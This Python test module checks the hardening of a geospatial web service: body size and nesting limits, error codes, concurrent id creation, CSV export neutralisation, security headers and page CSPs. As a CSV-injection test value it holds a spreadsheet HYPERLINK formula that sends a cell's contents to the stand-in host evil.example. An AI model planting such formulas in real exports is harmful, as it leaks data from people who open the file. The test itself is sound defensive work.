"""Issue 19 at the edge of the app: bodies bounded on every endpoint, geometry and nesting limits,
the former 500s as 4xx, ids from titles under concurrency, CSV formula cells, security headers
and page CSPs (checked in Chromium), /readyz detail for administrators only.

One app on a fresh SQLite store, served on loopback; requests go over real sockets.
"""

from __future__ import annotations

import csv
import io
import json
import re
import socket
import threading

import pytest
import requests
import shapely

from geoservice.exports import neutralise
from tests.conftest import LiveServer, _apps, build_app
from tests.test_edit_api import GEOJSON, MERGE_PATCH, add_user, project

LIMIT = 65_536  # MAX_BODY_BYTES here: the smallest allowed, so bodies over it stay cheap
VERTICES = 1000
FORMULA = '=HYPERLINK("http://evil.example/?leak="&B2,"Details")'


@pytest.fixture(scope="module")
def service(tmp_path_factory):
    app = build_app("sqlite", tmp_path_factory.mktemp("edge"), MAX_BODY_BYTES=LIMIT,
                    MAX_GEOMETRY_VERTICES=VERTICES)
    server = LiveServer(app)
    server.admin = add_user(app, "bernd", "admin")["token"]
    server.app = app
    yield server
    server.stop()
    _apps.remove(app)
    app.extensions["geoservice"].close()


def _writer(service, **extra) -> dict:
    return {"Authorization": f"Bearer {service.admin}", "Content-Type": GEOJSON,
            "X-Change-Note": "Test", **extra}


def _raw(service, head: str, body: bytes = b"") -> bytes:
    """Send a raw request; return the answer's status line and headers."""
    host, port = service.url.removeprefix("http://").split(":")
    with socket.create_connection((host, int(port)), timeout=30) as sock:
        try:
            sock.sendall(head.encode() + body)
        except OSError:
            pass  # answered and closed before the rest was read
        answer = b""
        while b"\r\n\r\n" not in answer:
            piece = sock.recv(65536)
            if not piece:
                break
            answer += piece
        return answer


def _chunked(size: int) -> bytes:
    piece = b"a" * 4096
    return (b"1000\r\n" + piece + b"\r\n") * (size // 4096) + b"0\r\n\r\n"


def _paths(app) -> list[tuple[str, str]]:
    """Every route of the app as (method, path), arguments filled in."""
    found = []
    for rule in app.url_map.iter_rules():
        path = re.sub(r"<(?:[^:>]+:)?([^>]+)>", "x", rule.rule)
        method = next((m for m in ("POST", "PUT", "PATCH", "DELETE") if m in rule.methods), "GET")
        found.append((method, path))
    return found


def test_a_chunked_or_declared_body_over_the_limit_is_413_on_every_endpoint(service):
    paths = _paths(service.app)
    assert len(paths) > 40 and ("POST", "/edit/login") in paths
    for method, path in paths + [("POST", "/no-such-path")]:
        head = (f"{method} {path} HTTP/1.1\r\nHost: 127.0.0.1\r\nTransfer-Encoding: chunked\r\n"
                "Content-Type: application/x-www-form-urlencoded\r\n\r\n")
        answer = _raw(service, head, _chunked(2 * LIMIT))
        assert answer.startswith(b"HTTP/1.1 413"), (method, path, answer[:200])
    declared = _raw(service, f"POST /edit/login HTTP/1.1\r\nHost: 127.0.0.1\r\n"
                             f"Content-Length: {300 * 2**20}\r\n\r\n")
    assert declared.startswith(b"HTTP/1.1 413")


def test_the_413_names_the_limit_and_carries_the_security_headers(service):
    response = requests.post(service.url + "/collections/projects/items", headers=_writer(service),
                             data=iter([b"x" * 40_000] * 3), timeout=30)  # a generator: chunked
    assert response.status_code == 413
    assert f"at most {LIMIT}" in response.json()["description"]
    assert response.headers["X-Content-Type-Options"] == "nosniff"
    assert "default-src 'none'" in response.headers["Content-Security-Policy"]


def test_a_chunked_body_under_the_limit_is_written(service):
    body = json.dumps(project("Per Chunks gesendet")).encode()
    response = requests.post(service.url + "/collections/projects/items", headers=_writer(service),
                             data=iter([body[:100], body[100:]]), timeout=30)
    assert response.status_code == 201, response.text
    assert response.json()["properties"]["title"] == "Per Chunks gesendet"


def test_a_geometry_over_the_vertex_limit_is_413_naming_it(service):
    line = {"type": "LineString",
            "coordinates": [[13.78 + i * 1e-5, 51.0] for i in range(VERTICES + 1)]}
    feature = dict(project("Zu viele Punkte"), geometry=line)
    response = requests.post(service.url + "/collections/projects/items", headers=_writer(service),
                             data=json.dumps(feature), timeout=30)
    assert response.status_code == 413
    assert f"{VERTICES + 1} vertices; at most {VERTICES}" in response.json()["description"]
    assert "MAX_GEOMETRY_VERTICES" in response.json()["description"]


def test_former_server_errors_are_client_errors(service):
    url = service.url + "/collections/projects/items"
    item = url + "/bmx-anlage-prohlis"
    empty_tag = {"If-Match": '""'}
    assert requests.patch(item, headers=_writer(service, **empty_tag, **{"Content-Type": MERGE_PATCH}),
                          data="{}", timeout=30).status_code == 412
    assert requests.put(item, headers=_writer(service, **empty_tag),
                        data=json.dumps(project("x")), timeout=30).status_code == 412
    deleted = requests.delete(item, headers=_writer(service, **empty_tag), timeout=30)
    assert deleted.status_code == 412
    assert """If-Match: '""' names no record""" in deleted.json()["description"]
    empty_type = requests.post(url, headers=_writer(service), timeout=30,
                               data=json.dumps(dict(project("x"), geometry={"type": ""})))
    assert empty_type.status_code == 400 and "geometry" in empty_type.json()["description"]
    for deep in ("[" * 1000 + "]" * 1000,
                 json.dumps(project("DEEP")).replace('"DEEP"', "[" * 900 + "]" * 900)):
        answer = requests.post(url, headers=_writer(service), data=deep, timeout=30)
        assert answer.status_code == 400 and "more than 32 deep" in answer.json()["description"]
    hook = requests.post(service.url + "/admin/webhooks", data="[" * 5000 + "]" * 5000, timeout=30,
                         headers=_writer(service, **{"Content-Type": "application/json"}))
    assert hook.status_code == 400 and "more than 32 deep" in hook.json()["description"]


def _race(url: str, token: str, title: str) -> set[str]:
    """8 creations with one title and no id, released at once; return the ids they got."""
    results: list[requests.Response] = []
    start = threading.Barrier(8)
    headers = {"Authorization": f"Bearer {token}", "Content-Type": GEOJSON, "X-Change-Note": "Test"}

    def create() -> None:
        start.wait()
        results.append(requests.post(url + "/collections/projects/items", headers=headers,
                                     timeout=60, data=json.dumps(project(title))))

    threads = [threading.Thread(target=create) for _ in range(8)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    assert [r.status_code for r in results] == [201] * 8, [r.text for r in results]
    return {r.json()["id"] for r in results}


def test_concurrent_creations_with_one_title_get_distinct_ids(service):
    assert _race(service.url, service.admin, "Gleicher Titel") == {
        "gleicher-titel", *(f"gleicher-titel-{n}" for n in range(2, 9))}


def test_concurrent_creations_get_distinct_ids_on_postgresql(tmp_path):
    app = build_app("postgresql", tmp_path)
    server = LiveServer(app)
    try:
        token = add_user(app, "bernd", "admin")["token"]
        assert _race(server.url, token, "Gleicher Titel") == {
            "gleicher-titel", *(f"gleicher-titel-{n}" for n in range(2, 9))}
    finally:
        server.stop()
        _apps.remove(app)
        app.extensions["geoservice"].close()


def test_csv_cells_that_start_like_a_formula_are_neutralised(service):
    created = requests.post(service.url + "/collections/projects/items", headers=_writer(service),
                            timeout=30, data=json.dumps(project(FORMULA, description="-1+2 Euro",
                                                                status_note="@SUM(A1)")))
    assert created.status_code == 201, created.text
    text = requests.get(service.url + "/collections/projects/items",
                        params={"f": "csv", "limit": 1000}, timeout=30).text
    rows = {row["id"]: row for row in csv.DictReader(io.StringIO(text))}
    row = rows[created.json()["id"]]
    assert row["title"] == "'" + FORMULA
    assert row["description"] == "'-1+2 Euro" and row["status_note"] == "'@SUM(A1)"
    assert row["start_year"] == "2024"  # numbers and the geometry stay usable
    assert shapely.from_wkt(row["WKT"]).geom_type == "Point"
    assert all(not cell.startswith(("=", "+", "-", "@", "\t", "\r"))
               for r in rows.values() for name, cell in r.items() if name != "WKT")
    assert neutralise(-3) == -3 and neutralise(-2.5) == -2.5 and neutralise("\tx") == "'\tx"


@pytest.mark.parametrize("path", ["/", "/areas/prohlis", "/edit/login", "/collections?f=json",
                                  "/collections/projects/items?f=csv", "/nothing-here", "/?embed=1"])
def test_every_response_carries_the_security_headers(service, path):
    for _ in range(2):  # the second answer may come from the response cache
        response = requests.get(service.url + path, headers={"Accept": "text/html"}, timeout=30)
        headers = response.headers
        assert headers["X-Content-Type-Options"] == "nosniff"
        assert headers["Referrer-Policy"] == "strict-origin-when-cross-origin"
        csp = headers["Content-Security-Policy"]
        if path == "/?embed=1":
            assert "X-Frame-Options" not in headers and "frame-ancestors *" in csp
        elif path.startswith("/edit"):
            assert headers["X-Frame-Options"] == "DENY" and "frame-ancestors 'none'" in csp
        else:
            assert headers["X-Frame-Options"] == "SAMEORIGIN"
        if headers["Content-Type"].startswith("text/html"):
            assert "script-src 'self'" in csp and "'unsafe-inline'" not in csp.split("script-src")[1].split(";")[0]
        else:
            assert csp.startswith("default-src 'none'")


def test_readyz_shows_the_detail_to_administrators_only(service):
    from geoservice.storage.geojson import Feature
    from geoservice.storage.sql import Author, Put

    holder = service.app.extensions["geoservice"]
    last = holder.store.history("projects", "bmx-anlage-prohlis")[-1]
    holder.store.write(Author("test", "Test"), "kaputt", "update", [
        Put("projects", Feature(last.fid, dict(last.properties, status="kaputt"), last.wkb))])
    try:
        holder.maybe_reload(force=True)
        public = requests.get(service.url + "/readyz", timeout=30)
        assert public.status_code == 503
        assert "detail" not in public.json() and "kaputt" not in public.text
        assert public.json()["reason"]
        admin = requests.get(service.url + "/readyz", timeout=30,
                             headers={"Authorization": f"Bearer {service.admin}"})
        assert admin.status_code == 503 and "status 'kaputt'" in admin.json()["detail"]
    finally:
        holder.store.write(Author("test", "Test"), "repariert", "update", [
            Put("projects", Feature(last.fid, dict(last.properties), last.wkb))])
        holder.maybe_reload(force=True)
    assert requests.get(service.url + "/readyz", timeout=30).status_code == 200


@pytest.mark.parametrize("path", ["/", "/collections/projects/items/bmx-anlage-prohlis?f=html"])
def test_the_map_pages_pass_their_csp_in_chromium(browser, service, path):
    context = browser.new_context()
    page = context.new_page()
    violations: list[str] = []
    page.on("console", lambda msg: violations.append(msg.text)
            if "Content Security Policy" in msg.text else None)
    page.add_init_script("document.addEventListener('securitypolicyviolation', e => "
                         "console.error('Content Security Policy: ' + e.violatedDirective + ' ' + e.blockedURI))")
    try:
        response = page.goto(service.url + path)
        assert "'sha256-" in response.headers["content-security-policy"]
        page.wait_for_function("() => document.readyState === 'complete'")
        assert violations == []
        # the page's own scripts ran: the map has its layers (a blocked script would leave none)
        page.wait_for_selector(".leaflet-interactive, .leaflet-marker-icon", timeout=10_000)
    finally:
        context.close()
    assert violations == []


def test_a_304_carries_no_csp_that_would_replace_the_pages(service):
    html = {"Accept": "text/html"}
    first = requests.get(service.url + "/areas/prohlis", timeout=30, headers=html)
    again = requests.get(service.url + "/areas/prohlis", timeout=30,
                         headers={**html, "If-None-Match": first.headers["ETag"]})
    assert again.status_code == 304 and "Content-Security-Policy" not in again.headers
    assert again.headers["X-Content-Type-Options"] == "nosniff"
    third = requests.get(service.url + "/areas/prohlis", timeout=30, headers=html)
    assert third.headers["Content-Security-Policy"] == first.headers["Content-Security-Policy"]
    assert "'sha256-" in third.headers["Content-Security-Policy"]
